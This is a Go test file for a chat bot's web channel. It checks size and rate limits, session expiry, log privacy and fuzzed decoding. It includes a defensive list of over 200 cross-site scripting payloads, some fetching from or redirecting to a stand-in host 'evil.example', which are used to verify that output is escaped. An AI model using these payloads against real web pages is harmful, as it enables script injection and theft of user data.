package web

import (
	"context"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"infoline/bot"
	"infoline/bot/channeltest"
	"infoline/bot/markup"
)

func TestBodies(t *testing.T) {
	d := newDesk(t)
	b := d.tab(t)
	for size, want := range map[int]int{15 << 10: 200, maxBody + 1: 413, 1 << 20: 413} {
		b.get("/")
		if b.say(strings.Repeat("a", size)); b.status != want {
			t.Errorf("%d bytes: %d, want %d", size, b.status, want)
		}
	}
	if got := len(d.line.messages(bot.Text)); got != 1 {
		t.Errorf("%d messages", got)
	}
}

func TestPace(t *testing.T) {
	d := newDesk(t)
	d.c.pace = 60 * time.Millisecond
	b := d.tab(t)
	began := time.Now()
	for i := range 4 {
		b.say(fmt.Sprint(i))
	}
	if d := time.Since(began); d < 180*time.Millisecond {
		t.Errorf("four messages in %s", d)
	}
	block := make(chan struct{})
	d.line.do = func(context.Context, bot.Message) error { <-block; return nil }
	var full, good atomic.Int32
	var all sync.WaitGroup
	for i := range 10 {
		other := *b
		all.Go(func() {
			switch other.post("/", b.fields("words", fmt.Sprint("flood ", i))); other.status {
			case 429:
				full.Add(1)
				if other.page.draft == "" {
					t.Error("the words of who must wait are lost")
				}
			case 200:
				good.Add(1)
			}
		})
	}
	until(t, "the flood to be refused", func() bool { return full.Load() == 10-maxPending })
	close(block)
	all.Wait()
	if good.Load() != maxPending {
		t.Errorf("%d of the flood were answered", good.Load())
	}
}

func TestCrowd(t *testing.T) {
	d := newDesk(t)
	now := time.Now()
	d.c.visits.now = func() time.Time { return now }
	from := func(addr, via string) int {
		q := url.Values{"visit": {d.c.seal.token(newID(), now)}, "key": {newKey()}, "words": {"hi"}}
		req := httptest.NewRequestWithContext(t.Context(), "POST", "http://example.org/", strings.NewReader(q.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		req.Header.Set("Origin", "http://example.org")
		req.RemoteAddr = addr
		if via != "" {
			req.Header.Set("X-Forwarded-For", via)
		}
		w := httptest.NewRecorder()
		d.site.ServeHTTP(w, req)
		return w.Code
	}
	for i := range perPlace {
		if got := from(fmt.Sprintf("203.0.113.%d:1", i), ""); got != 200 {
			t.Fatalf("visit %d: %d", i, got)
		}
	}
	if got := from("203.0.113.99:1", ""); got != 429 {
		t.Errorf("one too many: %d", got)
	}
	if got := from("127.0.0.1:1", "198.51.100.1, 203.0.113.98"); got != 429 {
		t.Errorf("one too many through our proxy: %d", got)
	}
	if got := from("198.51.100.7:1", "203.0.113.98"); got != 200 {
		t.Errorf("somebody elsewhere, with a header of their own: %d", got)
	}
	now = now.Add(giveWay + time.Second)
	if got := from("203.0.113.99:1", ""); got != 200 {
		t.Errorf("after a pause: %d", got)
	}
	for range maxVisits {
		if got := from("127.0.0.1:1", ""); got != 200 {
			t.Fatalf("an onion service is a crowd: %d", got)
		}
	}
	if got := len(d.c.visits.live); got != maxVisits {
		t.Errorf("%d visits live", got)
	}
	now = now.Add(idleFor)
	if gone := d.c.visits.expire(); len(gone) != maxVisits || len(d.c.visits.live) != 0 || d.c.visits.bytes != 0 {
		t.Errorf("%d ended, %d live, %d bytes", len(gone), len(d.c.visits.live), d.c.visits.bytes)
	}
}

func TestIdle(t *testing.T) {
	d := newDesk(t)
	now := time.Now()
	d.c.visits.now = func() time.Time { return now }
	b := d.tab(t)
	b.say("one")
	now = now.Add(idleFor - time.Second)
	if b.say("two"); b.status != 200 || len(b.page.bubbles) != 4 {
		t.Errorf("just in time: %d, %d bubbles", b.status, len(b.page.bubbles))
	}
	now = now.Add(idleFor)
	if b.say("three"); b.status != http.StatusGone || len(b.page.bubbles) != 0 {
		t.Errorf("too late: %d, %d bubbles", b.status, len(b.page.bubbles))
	}
	if b.say("three"); b.status != 200 || len(b.page.bubbles) != 2 {
		t.Errorf("anew from the page that says so: %d, %d bubbles", b.status, len(b.page.bubbles))
	}
	b.get("/")
	now = now.Add(openFor + time.Minute)
	if b.say("a page from yesterday"); b.status != http.StatusGone {
		t.Errorf("a page from yesterday: %d", b.status)
	}
}

func TestTranscriptBounds(t *testing.T) {
	d := newDesk(t)
	b := d.tab(t)
	b.say("hi")
	to := d.line.messages(bot.Text)[0].Back
	big := markup.Plain(strings.Repeat("many words ", 1_500))
	for range 3 * maxEntries {
		if _, err := d.c.Send(t.Context(), to, bot.Reply{Parts: []bot.Part{{Text: big}}}); err != nil {
			t.Fatal(err)
		}
	}
	vs := d.c.visits
	for _, v := range vs.live {
		sum := 0
		for _, e := range v.entries {
			sum += e.size()
		}
		if len(v.entries) > maxEntries || v.bytes > maxBytes || sum != v.bytes || vs.bytes != sum {
			t.Errorf("%d entries, %d bytes (counted %d, in all %d)", len(v.entries), sum, v.bytes, vs.bytes)
		}
	}
}

// TestNothingLogged: a thousand people from anywhere leave nothing in the log.
func TestNothingLogged(t *testing.T) {
	d := newDesk(t)
	for i := range 1_000 {
		addr := netip.AddrFrom4([4]byte{203, byte(i / 250), byte(i), 77})
		q := url.Values{"visit": {d.c.seal.token(newID(), time.Now())}, "key": {newKey()}, "words": {"sesame " + fmt.Sprint(i)}}
		req := httptest.NewRequestWithContext(t.Context(), "POST", "http://example.org/?query=sesame", strings.NewReader(q.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		req.Header.Set("Origin", "http://example.org")
		req.Header.Set("User-Agent", "agent-sesame")
		req.RemoteAddr = netip.AddrPortFrom(addr, 4000).String()
		d.site.ServeHTTP(httptest.NewRecorder(), req)
		if strings.Contains(d.logs.String(), addr.String()) || strings.Contains(d.logs.String(), q.Get("visit")) {
			t.Fatal("an address or a token stands in the log")
		}
	}
	if strings.Contains(d.logs.String(), "sesame") {
		t.Error("words, an agent or a query stand in the log")
	}
}

// payloads are ways to smuggle an element, an attribute or an address into a page.
func payloads() (all []string) {
	for _, script := range []string{"alert(1)", "alert`1`", "top.x=1", "fetch('//evil.example')"} {
		for _, shape := range []string{
			`<script>%s</script>`, `<ScRiPt>%s</sCrIpT>`, `"><script>%s</script>`, `'><script>%s</script>`, `</textarea><script>%s</script>`,
			`</title><script>%s</script>`, `</style><script>%s</script>`, `<img src=x onerror=%s>`, `"><img src=x onerror="%s">`, `<svg onload=%s>`,
			`<svg/onload=%s>`, `<svg><script>%s</script></svg>`, `<math><mtext><script>%s</script></mtext></math>`, `<iframe srcdoc="<script>%s</script>">`,
			`<a href="javascript:%s">x</a>`, `[x](javascript:%s)`, `[x](https://e.example" onclick="%s)`, `**<b onmouseover=%s>**`, `" onfocus="%s" autofocus="`,
			`' onfocus='%s' autofocus='`, ` onfocus=%s autofocus `, `<input onfocus=%s autofocus>`, `<details open ontoggle=%s>`, `<body onload=%s>`,
			`<form action="javascript:%s"><button>`, `<base href="//evil.example/"><i>%s</i>`, `<meta http-equiv="refresh" content="0;url=//evil.example/%s">`,
			`<link rel=stylesheet href="//evil.example/%s">`, `<style>@import "%s"</style>`, `<object data="data:text/html,<script>%s</script>">`,
			`<!--><script>%s</script>-->`, `<![CDATA[<script>%s</script>]]>`, `{{.}}<script>%s</script>`, `<template><script>%s</script></template>`,
			`<noscript><p title="</noscript><script>%s</script>">`, `<xmp><script>%s</script>`, "<scr\x00ipt>%s</script>", "\u2028<script>%s</script>",
			`&lt;script&gt;%s&lt;/script&gt;`, `<<script>%s//<</script>`, `<script src=//evil.example/%s>`, `<a style="background:url(%s)">`, `<video><source onerror=%s>`,
			`<button form=exit formaction="//evil.example/%s">`, `<p id=say>%s</p>`, `<x data-copy=%s>`, `+ADw-script+AD4-%s+ADw-/script+AD4-`, `%%3Cscript%%3E%s`,
			`<marquee onstart=%s>`, `<isindex type=image src=1 onerror=%s>`,
		} {
			all = append(all, fmt.Sprintf(shape, script))
		}
	}
	return all
}

// TestPayloads puts every payload wherever words of people or of the line come in, and
// compares the elements of the page with those of the same page with harmless words.
func TestPayloads(t *testing.T) {
	all := payloads()
	if len(all) < 200 {
		t.Fatalf("%d payloads", len(all))
	}
	page := func(p string) string {
		d := newDesk(t)
		d.line.do = func(ctx context.Context, m bot.Message) error {
			_, err := d.c.Send(ctx, m.Back, bot.Reply{Lang: "en", Notice: p, Parts: []bot.Part{
				{Text: markup.Plain(p + "."), Choices: [][]bot.Choice{{{Label: p, Action: "w.a"}, {Label: p, Copy: p}}}, Print: "x" + p},
				{Text: markup.Strong(p + ".")},
			}})
			return err
		}
		b := d.tab(t)
		b.head.Set("Accept-Language", strings.Map(func(r rune) rune {
			if r < ' ' {
				return -1
			}
			return r
		}, p))
		b.post("/", b.fields("words", "say "+p))
		b.post("/", b.fields("words", p, "chose", "w.a"))
		return b.body
	}
	want := shape(t, page("harmless one"))
	d := newDesk(t)
	for _, p := range all {
		body := page(p)
		if got := shape(t, body); got != want {
			t.Errorf("%q changes the page: %.3000s", p, got)
		}
		for _, field := range []string{"visit", "key", "after", "chose", "command", "other", p} {
			b := d.tab(t)
			b.post("/", b.fields(field, p))
			if got := b.page.elements["script"]; got != 1 {
				t.Errorf("%q in field %s: %d scripts", p, field, got)
			}
		}
		if b := d.tab(t).get("/en/" + url.PathEscape(p)); b.page.elements["script"] != 1 || b.status != 404 {
			t.Errorf("%q in the path: %d", p, b.status)
		}
	}
}

// shape is every element of a page with the names of its attributes.
func shape(t *testing.T, body string) string {
	var b strings.Builder
	d := xml.NewDecoder(strings.NewReader(strings.ReplaceAll(body, "<!doctype html>", "")))
	d.Strict, d.AutoClose, d.Entity = false, xml.HTMLAutoClose, xml.HTMLEntity
	for {
		tok, err := d.Token()
		if errors.Is(err, io.EOF) {
			return b.String()
		}
		if err != nil {
			t.Fatal(err)
		}
		// A line break in words is a line break on the page.
		if e, ok := tok.(xml.StartElement); ok && (e.Name.Local != "br" || len(e.Attr) > 0) {
			b.WriteString("<" + e.Name.Local)
			for _, a := range e.Attr {
				b.WriteString(" " + a.Name.Local)
			}
			b.WriteString(">")
		}
	}
}

func FuzzDecode(f *testing.F) {
	for _, s := range []string{
		"", "words=hi&visit=x&key=0a&after=3", "chose=o.start.th", "command=%2Fmenu", "words=%ff%00%e2%80%ae", "a=1&a=2", "%zz", "after=-1",
		"words=a%0d%0ab", strings.Repeat("&", 100), "words=" + strings.Repeat("%F0%9F%8C%A7", 50),
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, body string) {
		got, err := decode(body)
		if err != nil {
			if err.Error() != errOther.Error() {
				t.Fatalf("an error that says more than it may: %v", err)
			}
			return
		}
		if len(got.chose) > bot.MaxAction || !plain(string(got.chose), bot.MaxAction) || !plain(got.key, 32) || got.after < 0 {
			t.Fatalf("took %q %q %d", got.chose, got.key, got.after)
		}
		if readable(got.words) != got.words {
			t.Fatalf("%q is not settled", got.words)
		}
		if (sealer{}).hash(got.key, string(got.chose), got.words) != (sealer{}).hash(got.key, string(got.chose), got.words) {
			t.Fatal("a hash that differs from itself")
		}
	})
}

func FuzzToken(f *testing.F) {
	var s sealer
	f.Add(s.token(id{1}, time.Unix(60, 0)))
	f.Add("")
	f.Fuzz(func(t *testing.T, token string) {
		if v, made, ok := s.open(token); ok && s.token(v, made) != token {
			t.Fatalf("%q opens, and is not what was made", token)
		}
	})
}

// A world is a browser without script for the tests that every channel passes.
type world struct {
	t      *testing.T
	d      *desk
	tab    *tab
	cancel context.CancelFunc
	ended  chan error

	lines chan func()
	said  *sync.WaitGroup
	mu    sync.Mutex
	seen  seenPage
}

func TestChannel(t *testing.T) {
	channeltest.Run(t, func(t *testing.T, h bot.Handler) channeltest.World {
		logs := &lockedBuffer{}
		c := newChannel("", slog.New(slog.NewTextHandler(logs, &slog.HandlerOptions{Level: slog.LevelDebug})))
		l, err := (&net.ListenConfig{}).Listen(t.Context(), "tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		c.listener, c.pace = l, 0
		ctx, cancel := context.WithCancel(context.WithoutCancel(t.Context()))
		w := &world{t: t, d: &desk{c: c, logs: logs}, cancel: cancel, ended: make(chan error, 1), said: &sync.WaitGroup{}}
		go func() { w.ended <- c.Run(ctx, h) }()
		w.open("http://" + l.Addr().String())
		t.Cleanup(cancel)
		return w
	})
}

func (w *world) open(base string) {
	w.tab = &tab{t: w.t, base: base, client: &http.Client{Transport: &http.Transport{}}, head: http.Header{}}
	w.tab.head.Set("User-Agent", "Planted-Agent")
	w.seen = w.tab.get("/").page
	w.lines = make(chan func(), 1_000)
	go func() {
		for do := range w.lines {
			do()
			w.mu.Lock()
			w.seen = w.tab.page
			w.mu.Unlock()
			w.said.Done()
		}
	}()
	w.t.Cleanup(w.tab.client.CloseIdleConnections)
}

func (w *world) Channel() bot.Channel { return w.d.c }

func (w *world) Say(text string) {
	w.said.Add(1)
	w.lines <- func() { w.tab.say(text) }
}

func (w *world) Press(label string) {
	w.said.Add(1)
	w.lines <- func() { w.tab.say("").press(label) }
}

// Shown looks at the page again, where there still is one.
func (w *world) Shown() (all []channeltest.Shown) {
	w.mu.Lock()
	defer w.mu.Unlock()
	if len(w.ended) == 0 {
		again := tab{t: w.t, base: w.tab.base, client: w.tab.client, page: w.seen}
		req, _ := http.NewRequestWithContext(context.Background(), "POST", again.base+"/", strings.NewReader(again.fields("words", "").Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		req.Header.Set("Origin", again.base)
		if res, err := again.client.Do(req); err == nil {
			body, _ := io.ReadAll(res.Body)
			_ = res.Body.Close()
			if res.StatusCode == 200 {
				w.seen = look(w.t, string(body))
			}
		}
	}
	for _, b := range w.seen.bubbles {
		all = append(all, channeltest.Shown{Text: b.text, Labels: b.labels, Ours: b.class == "ours"})
	}
	return all
}

func (w *world) Another() channeltest.World {
	o := &world{t: w.t, d: w.d, cancel: w.cancel, ended: w.ended, said: &sync.WaitGroup{}}
	o.open(w.tab.base)
	return o
}

func (w *world) Fault(string) bool { return false }

func (w *world) Stop() error {
	w.cancel()
	err := <-w.ended
	w.said.Wait()
	w.ended <- err
	return err
}

func (w *world) Logs() string { return w.d.logs.String() }

func (w *world) Planted() (word, name, token string) { return "sesame", "Planted-Agent", "" }
